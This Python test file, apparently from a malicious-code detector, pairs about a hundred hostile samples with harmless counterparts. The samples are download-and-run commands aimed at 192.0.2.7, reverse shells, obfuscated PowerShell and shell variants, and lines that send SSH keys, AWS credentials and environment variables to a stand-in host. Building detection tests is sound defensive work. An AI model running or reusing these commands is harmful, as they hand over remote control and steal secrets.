"""Ways to start a process, and ways to write a command that fetches and runs."""

from __future__ import annotations

import base64
import gzip

from pratique.verdict import Verdict
from tests.evasions.sample import COMMAND, MALICIOUS, SUSPICIOUS, Evasion, b64, evasion

_POWERSHELL = base64.b64encode("iex (iwr http://192.0.2.7/a.ps1)".encode("utf-16-le")).decode()


def _start(title: str, code: str) -> Evasion:
    """Code that starts CMD, which fetches and runs or is harmless."""
    return evasion(title, code.replace("CMD", repr(COMMAND)), code.replace("CMD", repr("uname -s")))


def _shell(title: str, command: str, honest: str = "uname -s", verdict: Verdict = MALICIOUS) -> Evasion:
    """A command line under ``os.system``."""
    return evasion(title, f"import os\nos.system({command!r})\n", f"import os\nos.system({honest!r})\n", verdict)


CASES = (
    _start("os.system", "import os\nos.system(CMD)\n"),
    _start("os.popen", "import os\nos.popen(CMD).read()\n"),
    _start("run with shell", "import subprocess\nsubprocess.run(CMD, shell=True)\n"),
    _start("run with a list", "import subprocess\nsubprocess.run(['sh', '-c', CMD])\n"),
    _start("run with a path of the shell", "import subprocess\nsubprocess.run(['/usr/bin/env', 'bash', '-c', CMD])\n"),
    _start("run with a keyword", "import subprocess\nsubprocess.run(args=['sh', '-c', CMD])\n"),
    _start(
        "run with another executable", "import subprocess\nsubprocess.run(CMD, shell=True, executable='/bin/bash')\n"
    ),
    _start("Popen with star arguments", "import subprocess\nsubprocess.Popen(*[CMD], **{'shell': True})\n"),
    _start(
        "Popen, hidden", "import subprocess\nsubprocess.Popen(CMD, shell=True, creationflags=0x08000000, stdout=-3)\n"
    ),
    _start("Popen in with", "import subprocess\nwith subprocess.Popen(CMD, shell=True) as p:\n    p.wait()\n"),
    _start("Popen subclass", "import subprocess\n\nclass P(subprocess.Popen): ...\n\nP(CMD, shell=True)\n"),
    _start("check_output", "from subprocess import check_output as co\nco(CMD, shell=True)\n"),
    _start("check_call", "from subprocess import check_call\ncheck_call(CMD, shell=True)\n"),
    _start("getoutput", "import subprocess\nsubprocess.getoutput(CMD)\n"),
    _start("getstatusoutput", "import subprocess\nsubprocess.getstatusoutput(CMD)\n"),
    _start("posix_spawn", "import os\nos.posix_spawn('/bin/sh', ['sh', '-c', CMD], os.environ)\n"),
    _start("execv after fork", "import os\nif os.fork() == 0:\n    os.execv('/bin/sh', ['sh', '-c', CMD])\n"),
    _start("execl", "import os\nif not os.fork():\n    os.execl('/bin/sh', 'sh', '-c', CMD)\n"),
    _start("execvp", "import os\nif not os.fork():\n    os.execvp('sh', ['sh', '-c', CMD])\n"),
    _start("spawnlp", "import os\nos.spawnlp(os.P_NOWAIT, 'sh', 'sh', '-c', CMD)\n"),
    _start("spawnv", "import os\nos.spawnv(1, '/bin/sh', ['sh', '-c', CMD])\n"),
    _start("pty", "import pty\npty.spawn(['sh', '-c', CMD])\n"),
    _start(
        "asyncio shell",
        "import asyncio\n\nasync def go():\n    await asyncio.create_subprocess_shell(CMD)\n\nasyncio.run(go())\n",
    ),
    _start(
        "asyncio exec",
        "import asyncio\n\nasync def go():\n    await asyncio.create_subprocess_exec('sh', '-c', CMD)\n\nasyncio.run(go())\n",
    ),
    _start(
        "asyncio.subprocess",
        "import asyncio.subprocess\n\nasync def go():\n    await asyncio.subprocess.create_subprocess_shell(CMD)\n\nasyncio.run(go())\n",
    ),
    _start(
        "loop's own method",
        "import asyncio\nloop = asyncio.new_event_loop()\nloop.run_until_complete(loop.subprocess_shell(asyncio.SubprocessProtocol, CMD))\n",
    ),
    _start(
        "fork_exec",
        "import _posixsubprocess\n_posixsubprocess.fork_exec([b'sh', b'-c', CMD.encode()], [b'/bin/sh'], True, (), None, None, -1, -1, -1, -1, -1, -1, -1, -1, False, False, 0, None, None, None, -1, None)\n",
    ),
    _start("distutils spawn", "from distutils.spawn import spawn\nspawn(['sh', '-c', CMD])\n"),
    _start("setuptools' distutils", "from setuptools._distutils.spawn import spawn\nspawn(['sh', '-c', CMD])\n"),
    _start("pexpect", "import pexpect\npexpect.run('sh -c \"' + CMD + '\"')\n"),
    _start("invoke", "import invoke\ninvoke.run(CMD)\n"),
    _start("fabric", "from fabric import Connection\nConnection('localhost').local(CMD)\n"),
    _start("sh module", "import sh\nsh.bash('-c', CMD)\n"),
    _start("plumbum", "from plumbum import local\nlocal['sh']('-c', CMD)\n"),
    _start("psutil", "import psutil\npsutil.Popen(CMD, shell=True)\n"),
    _start("gevent", "from gevent import subprocess\nsubprocess.run(CMD, shell=True)\n"),
    _start("shell of IPython", "from IPython import get_ipython\nget_ipython().system(CMD)\n"),
    _start("ctypes", "import ctypes\nctypes.CDLL(None).system(CMD.encode())\n"),
    _start(
        "cffi",
        "import cffi\nf = cffi.FFI()\nf.cdef('int system(const char *);')\nf.dlopen(None).system(CMD.encode())\n",
    ),
    _start(
        "WScript", "import win32com.client\nwin32com.client.Dispatch('WScript.Shell').Run('sh -c \"' + CMD + '\"')\n"
    ),
    _start("input of a shell", "import subprocess\nsubprocess.run(['sh'], input=CMD, text=True)\n"),
    _start(
        "communicate with a shell",
        "import subprocess\np = subprocess.Popen('sh', stdin=subprocess.PIPE)\np.communicate(CMD.encode())\n",
    ),
    _start(
        "stdin of a shell",
        "import subprocess\np = subprocess.Popen(['sh'], stdin=subprocess.PIPE)\np.stdin.write(CMD.encode())\np.stdin.close()\n",
    ),
    _start("pipe opened for writing", "import os\nwith os.popen('sh', 'w') as p:\n    p.write(CMD)\n"),
    _start(
        "script written and run",
        "import os\nwith open('/tmp/x.sh', 'w') as f:\n    f.write(CMD)\nos.system('sh /tmp/x.sh')\n",
    ),
    _start(
        "script written by path and run",
        "import subprocess\nfrom pathlib import Path\np = Path('/tmp') / 'x.sh'\np.write_text(CMD)\nsubprocess.run(['sh', str(p)])\n",
    ),
    _start(
        "temporary script",
        "import subprocess, tempfile\nwith tempfile.NamedTemporaryFile('w', suffix='.sh', delete=False) as f:\n    f.write(CMD)\nsubprocess.run(['sh', f.name])\n",
    ),
    _start(
        "mkstemp script",
        "import os, subprocess, tempfile\nfd, p = tempfile.mkstemp()\nos.write(fd, CMD.encode())\nos.close(fd)\nsubprocess.run(['sh', p])\n",
    ),
    _start(
        "script made executable",
        "import os\nopen('/tmp/x', 'w').write('#!/bin/sh\\n' + CMD)\nos.chmod('/tmp/x', 0o755)\nos.system('/tmp/x')\n",
    ),
    _start(
        "Python in another process",
        "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import os; os.system(' + repr(CMD) + ')'])\n",
    ),
    _start(
        "Python in another process, as text",
        "import os, sys\nos.system(f'{sys.executable} -c \"import os; os.system({CMD!r})\"')\n",
    ),
    _start(
        "Python reads its standard input",
        "import subprocess, sys\nsubprocess.run([sys.executable, '-'], input='import os; os.system(' + repr(CMD) + ')', text=True)\n",
    ),
    _start(
        "Python file written and started",
        "import subprocess, sys\nopen('/tmp/a.py', 'w').write('import os\\nos.system(' + repr(CMD) + ')')\nsubprocess.Popen([sys.executable, '/tmp/a.py'])\n",
    ),
    _start(
        "Python file in a temporary file",
        "import subprocess, sys, tempfile\nf = tempfile.NamedTemporaryFile(delete=False)\nf.write(b'import os\\nos.system(' + repr(CMD).encode() + b')')\nf.close()\nsubprocess.Popen([sys.executable, f.name])\n",
    ),
    _start("command in a variable of the environment", "import os\nos.environ['X'] = CMD\nos.system('eval \"$X\"')\n"),
    _start(
        "command handed over by env=",
        "import os, subprocess\nsubprocess.run('eval \"$X\"', shell=True, env={'X': CMD})\n",
    ),
    _start("shlex", "import shlex, subprocess\nsubprocess.run(shlex.split('sh -c \"' + CMD + '\"'))\n"),
    _start(
        "list built piece by piece",
        "import subprocess\nc = []\nc.append('sh')\nc += ['-c']\nc.extend([CMD])\nsubprocess.run(c)\n",
    ),
    _shell("wget", "wget -qO- http://192.0.2.7/a | bash"),
    _shell("process substitution", "bash <(curl -s http://192.0.2.7/a)"),
    _shell("command substitution", 'sh -c "$(curl -fsSL http://192.0.2.7/a)"'),
    _shell("backquotes", "eval `curl -s http://192.0.2.7/a`"),
    _shell("download, mark, run", "curl -so /tmp/.x http://192.0.2.7/a && chmod +x /tmp/.x && /tmp/.x &"),
    _shell("download and run with nohup", "cd /tmp; wget http://192.0.2.7/a; chmod 777 a; nohup ./a >/dev/null 2>&1 &"),
    _shell("piped into python", "curl -s http://192.0.2.7/a | python3"),
    _shell(
        "python -c with urlopen",
        "python3 -c \"import urllib.request as u;exec(u.urlopen('http://192.0.2.7/a').read())\"",
    ),
    _shell("quotes inside words", "c''u\"r\"l -s http://192.0.2.7/a | s''h"),
    _shell("internal field separator", "curl${IFS}-s${IFS}http://192.0.2.7/a|sh"),
    _shell("variable for the word", "a=cu;b=rl;$a$b -s http://192.0.2.7/a | sh"),
    _shell("base64 piped into a shell", f"echo {b64(COMMAND)} | base64 -d | sh"),
    _shell("hexadecimal by xxd", f"echo {COMMAND.encode().hex()} | xxd -r -p | sh"),
    _shell("printf with escapes", "printf '" + "".join(f"\\x{b:02x}" for b in COMMAND.encode()) + "' | sh"),
    _shell("reversed by rev", f"echo '{COMMAND[::-1]}' | rev | sh"),
    _shell("here string", f"bash <<< '{COMMAND}'"),
    _shell(
        "gzip and base64",
        f"echo {b64(gzip.compress(COMMAND.encode(), mtime=0))} | base64 -d | gunzip | sh",
        verdict=SUSPICIOUS,
    ),
    _shell("reverse shell by /dev/tcp", "bash -c 'bash -i >& /dev/tcp/192.0.2.7/443 0>&1'"),
    _shell("reverse shell by netcat", "nc -e /bin/sh 192.0.2.7 443"),
    _shell("reverse shell by a named pipe", "mkfifo /tmp/p; cat /tmp/p | sh -i 2>&1 | nc 192.0.2.7 443 > /tmp/p"),
    _shell(
        "PowerShell", 'powershell -w hidden -c "iwr http://192.0.2.7/a.exe -o $env:TEMP\\a.exe; start $env:TEMP\\a.exe"'
    ),
    _shell("PowerShell cradle", "powershell -nop IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')"),
    _shell("PowerShell encoded", f"powershell -e {_POWERSHELL}"),
    _shell("PowerShell with carets", 'cmd /c p^o^w^e^r^s^h^e^l^l -c "iex(iwr http://192.0.2.7/a)"'),
    _shell("certutil", "certutil -urlcache -split -f http://192.0.2.7/a.exe a.exe & a.exe"),
    _shell("bitsadmin", "bitsadmin /transfer j http://192.0.2.7/a.exe %TEMP%\\a.exe && %TEMP%\\a.exe"),
    _shell("mshta", "mshta http://192.0.2.7/a.hta"),
    _shell("regsvr32", "regsvr32 /s /n /u /i:http://192.0.2.7/a.sct scrobj.dll"),
    _shell("rundll32", "rundll32 \\\\192.0.2.7\\s\\a.dll,Start", verdict=SUSPICIOUS),
    _shell("pip by URL", "pip install http://192.0.2.7/a.tar.gz"),
    _shell("pip by git", "python -m pip install git+http://192.0.2.7/a.git"),
    _shell("pip with another index", "pip install -i http://192.0.2.7/simple helper", verdict=SUSPICIOUS),
    _shell("git clone and run", "git clone http://192.0.2.7/a.git /tmp/a && sh /tmp/a/run.sh"),
    _shell("node", "node -e \"require('http').get('http://192.0.2.7/a',r=>r.on('data',d=>eval(''+d)))\""),
    _shell("npx by URL", "npx -y http://192.0.2.7/a.tgz"),
    _shell("perl", "perl -MLWP::Simple -e 'eval get(\"http://192.0.2.7/a\")'"),
    _shell("ruby", "ruby -ropen-uri -e 'eval URI.open(\"http://192.0.2.7/a\").read'"),
    _shell("php", "php -r 'eval(file_get_contents(\"http://192.0.2.7/a\"));'"),
    _shell("osascript", "osascript -e 'do shell script \"curl http://192.0.2.7/a | sh\"'"),
    _shell("secrets by curl", "curl -F f=@$HOME/.ssh/id_rsa https://hook.example.invalid/"),
    _shell("environment by curl", "env | curl --data-binary @- https://hook.example.invalid/"),
    _shell("environment by curl, encoded", "curl https://hook.example.invalid/?d=$(env | base64 -w0)"),
    _shell("archive by curl", "tar cz ~/.aws ~/.ssh | curl -T - https://hook.example.invalid/"),
    evasion(
        "two processes: one fetches, the other runs",
        "import os\nos.system('curl -so /tmp/x http://192.0.2.7/a')\nos.system('chmod +x /tmp/x')\nos.system('/tmp/x')\n",
        "import os\nos.system('chmod +x /tmp/x')\n",
    ),
    evasion(
        "fetched by a process, executed here",
        "import subprocess\nexec(subprocess.check_output(['curl', '-s', 'http://192.0.2.7/a']))\n",
        "import subprocess\nV = subprocess.check_output(['uname', '-s'])\n",
    ),
    evasion(
        "fetched here, fed to a shell",
        "import subprocess, requests\nsubprocess.run(['sh'], input=requests.get('http://192.0.2.7/a').content)\n",
        "import subprocess\nsubprocess.run(['cat'], input=b'x')\n",
    ),
    evasion(
        "browser opened with a local program",
        "import os, requests\nopen('/tmp/a', 'wb').write(requests.get('http://192.0.2.7/a').content)\n"
        "os.chmod('/tmp/a', 0o777)\nos.spawnl(os.P_NOWAIT, '/tmp/a', 'a')\n",
        "import webbrowser\n\ndef docs():\n    webbrowser.open('https://docs.example.invalid/')\n",
    ),
)
